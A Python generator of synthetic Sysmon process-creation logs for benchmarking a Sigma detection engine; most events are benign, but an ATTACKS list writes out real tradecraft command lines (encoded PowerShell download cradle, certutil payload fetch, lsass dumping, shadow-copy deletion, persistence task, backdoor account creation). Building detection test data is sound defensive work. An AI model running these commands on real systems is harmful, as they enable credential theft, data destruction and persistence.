#!/usr/bin/env python3
"""Writes synthetic Sysmon process-creation events (event id 1) as NDJSON, for the Windows
end-to-end benchmark (BENCHMARKS.md, "Windows events end to end").

Each line is one flat JSON object as NXLog's `im_msvistalog` with `to_json()` writes a Sysmon
event (`EventID`, `Channel`, `SourceName`, `Hostname`, then the event data at the top level;
some of NXLog's own fields left out), about 1.5 KB, which vigil reads as
`windows / process_creation / sysmon` and other Sigma engines read as flat fields. Most processes are the ordinary life of an agency's Windows estate
(explorer, svchost, Office, browsers, updates); about 2 in 100 are attacker tradecraft that
SigmaHQ's rules know (encoded PowerShell, LOLBins, credential dumping, discovery), written with
`-`, `/` and the Unicode dashes.

With `--winlogbeat`, each event is shaped as winlogbeat 8 ships it instead (`@timestamp`,
`host.name`, `event.code`, `winlog.channel`, `winlog.event_id`, the event data under
`winlog.event_data`): the shape of the `vigil serve` benchmark over TCP.

Everything is made up; the output is the same for the same arguments (fixed seed).

    python3 corpus/gen/sysmon.py 200000 > /tmp/sysmon-200k.ndjson
    python3 corpus/gen/sysmon.py 20000 --winlogbeat > /tmp/sysmon-wlb-20k.ndjson
"""

import json
import random
import sys

HOSTS = [f"ws{n:03d}.sotttt-{p}.gov.vn" for n in range(1, 41) for p in ("hanoi", "danang", "hue")]
USERS = ["nguyen.van.an", "tran.thi.binh", "le.van.cuong", "pham.thi.dung", "hoang.van.em", "SYSTEM"]

BENIGN = [
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", r"C:\Windows\system32\userinit.exe", "explorer.exe"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
     r"C:\Windows\System32\services.exe", "svchost.exe"),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "D:\CongVan\2026\QD-{n}.docx"',
     r"C:\Windows\explorer.exe", "WinWord.exe"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe",
     r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=vi --field-trial-handle={n}',
     r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe"),
    (r"C:\Windows\System32\backgroundTaskHost.exe",
     r'"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
     r"C:\Windows\system32\svchost.exe", "backgroundTaskHost.exe"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
     r"C:\Windows\System32\cmd.exe", "CONHOST.EXE"),
    (r"C:\Program Files\Windows Defender\MsMpEng.exe", r'"C:\Program Files\Windows Defender\MsMpEng.exe"',
     r"C:\Windows\System32\services.exe", "MsMpEng.exe"),
    (r"C:\Windows\System32\wuauclt.exe", r'"C:\Windows\system32\wuauclt.exe" /RunHandlerComServer',
     r"C:\Windows\system32\svchost.exe", "wuauclt.exe"),
    (r"C:\Windows\System32\taskhostw.exe", r"taskhostw.exe SYSTEM", r"C:\Windows\system32\svchost.exe",
     "taskhostw.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     r'powershell.exe -NoProfile -File "C:\Scripts\backup-{n}.ps1"', r"C:\Windows\System32\svchost.exe",
     "PowerShell.EXE"),
]

ATTACKS = [
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     r"C:\Windows\System32\cmd.exe", "PowerShell.EXE"),
    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
     r"C:\Windows\System32\cmd.exe", "CertUtil.exe"),
    (r"C:\Tools\procdump64.exe", "procdump64.exe \u2013accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
     r"C:\Windows\System32\cmd.exe", "procdump"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\out.dmp full",
     r"C:\Windows\System32\cmd.exe", "RUNDLL32.EXE"),
    (r"C:\Windows\System32\whoami.exe", "whoami /all", r"C:\Windows\System32\cmd.exe", "whoami.exe"),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", r"C:\Windows\System32\cmd.exe",
     "VSSADMIN.EXE"),
    (r"C:\Windows\System32\schtasks.exe",
     r'schtasks /create /sc minute /mo 5 /tn "Updater" /tr "C:\Users\Public\a.exe" /ru SYSTEM',
     r"C:\Windows\System32\cmd.exe", "schtasks.exe"),
    (r"C:\Windows\System32\net.exe", "net user sysupdate P@ssw0rd /add", r"C:\Windows\System32\cmd.exe", "net.exe"),
]


def guid(rng):
    return "{%08X-%04X-%04X-%04X-%012X}" % (
        rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48))


def hexs(rng, n):
    return "".join(rng.choice("0123456789ABCDEF") for _ in range(n))


def event(rng, i):
    image, command, parent, original = (rng.choice(ATTACKS) if rng.random() < 0.02 else rng.choice(BENIGN))
    command = command.replace("{n}", str(rng.randrange(100000)))
    host = rng.choice(HOSTS)
    user = rng.choice(USERS)
    second = i // 50
    stamp = "2026-12-04 %02d:%02d:%02d.%03d" % (8 + second // 3600 % 10, second // 60 % 60, second % 60, i % 1000)
    return {
        "EventTime": stamp,
        "Hostname": host,
        "EventType": "INFO",
        "SeverityValue": 2,
        "Severity": "INFO",
        "EventID": 1,
        "SourceName": "Microsoft-Windows-Sysmon",
        "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Version": 5,
        "Task": 1,
        "RecordNumber": 1000000 + i,
        "ProcessID": 3544,
        "ThreadID": 4272,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "UserID": "S-1-5-18",
        "Category": "Process Create (rule: ProcessCreate)",
        "RuleName": "-",
        "UtcTime": stamp,
        "ProcessGuid": guid(rng),
        "ProcessId": str(rng.randrange(1000, 30000)),
        "Image": image,
        "FileVersion": "10.0.19041.%d (WinBuild.160101.0800)" % rng.randrange(1, 4000),
        "Description": original.split(".")[0],
        "Product": "Microsoft\u00ae Windows\u00ae Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": original,
        "CommandLine": command,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": ("NT AUTHORITY\\SYSTEM" if user == "SYSTEM" else "SOTTTT\\" + user),
        "LogonId": "0x%x" % rng.getrandbits(24),
        "TerminalSessionId": "1",
        "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
        "Hashes": "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (hexs(rng, 40), hexs(rng, 32), hexs(rng, 64), hexs(rng, 32)),
        "ParentProcessGuid": guid(rng),
        "ParentProcessId": str(rng.randrange(1000, 30000)),
        "ParentImage": parent,
        "ParentCommandLine": parent if "cmd" not in parent else "C:\\Windows\\system32\\cmd.exe /c run.bat",
        "ParentUser": "NT AUTHORITY\\SYSTEM",
    }


# NXLog's fields that are the event's header; the rest is the event data.
SYSTEM = {"EventTime", "Hostname", "EventType", "SeverityValue", "Severity", "EventID", "SourceName",
          "ProviderGuid", "Version", "Task", "RecordNumber", "ProcessID", "ThreadID", "Channel", "UserID",
          "Category"}


def winlogbeat(flat):
    """The same event as winlogbeat 8 ships it."""
    stamp = flat["UtcTime"].replace(" ", "T") + "Z"
    data = {k: v for k, v in flat.items() if k not in SYSTEM}
    return {
        "@timestamp": stamp,
        "event": {"code": str(flat["EventID"]), "provider": flat["SourceName"], "kind": "event",
                  "created": stamp, "action": "Process Create (rule: ProcessCreate)"},
        "host": {"name": flat["Hostname"]},
        "agent": {"type": "winlogbeat", "version": "8.15.0"},
        "log": {"level": "information"},
        # As Windows renders it: every event data field on a line.
        "message": "Process Create:\n" + "\n".join("%s: %s" % (k, v) for k, v in data.items()),
        "winlog": {
            "channel": flat["Channel"],
            "event_id": flat["EventID"],
            "provider_name": flat["SourceName"],
            "provider_guid": flat["ProviderGuid"],
            "computer_name": flat["Hostname"],
            "record_id": flat["RecordNumber"],
            "process": {"pid": flat["ProcessID"], "thread": {"id": flat["ThreadID"]}},
            "user": {"identifier": flat["UserID"], "name": "SYSTEM", "domain": "NT AUTHORITY", "type": "User"},
            "version": flat["Version"],
            "task": flat["Category"],
            "opcode": "Info",
            "event_data": data,
        },
    }


def main():
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    shape = winlogbeat if "--winlogbeat" in sys.argv[1:] else (lambda e: e)
    count = int(args[0]) if args else 200000
    rng = random.Random(20261204)
    out = sys.stdout
    for i in range(count):
        out.write(json.dumps(shape(event(rng, i)), ensure_ascii=False, separators=(",", ":")))
        out.write("\n")


if __name__ == "__main__":
    main()
